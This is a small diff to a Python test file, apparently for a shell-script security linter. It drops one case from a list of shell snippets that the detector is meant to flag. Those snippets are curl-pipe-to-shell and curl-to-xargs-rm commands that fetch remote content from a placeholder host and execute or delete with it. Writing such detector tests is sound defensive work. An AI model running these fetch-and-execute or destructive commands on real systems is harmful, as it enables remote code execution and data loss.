@@ -257,7 +257,6 @@ def test_words_the_shell_joins(repo: GitRepo, source: str, rule_id: str) -> None
         ("s.sh", '$e "$x"\n'),
         ("s.sh", "curl https://x.io/i | xargs rm\n"),
         ("s.sh", "curl https://x.io/i | xargs sh install.sh\n"),
-        ("s.sh", "curl https://x.io/i | xargs bash -x\n"),
         ("s.sh", "curl https://x.io/i | xargs -I % sh -c 'echo %'\n"),
         ("s.sh", "curl https://x.io/i | sh install.sh\n"),
         ("s.sh", "curl https://x.io/i | sh -c 'cat; echo'\n"),
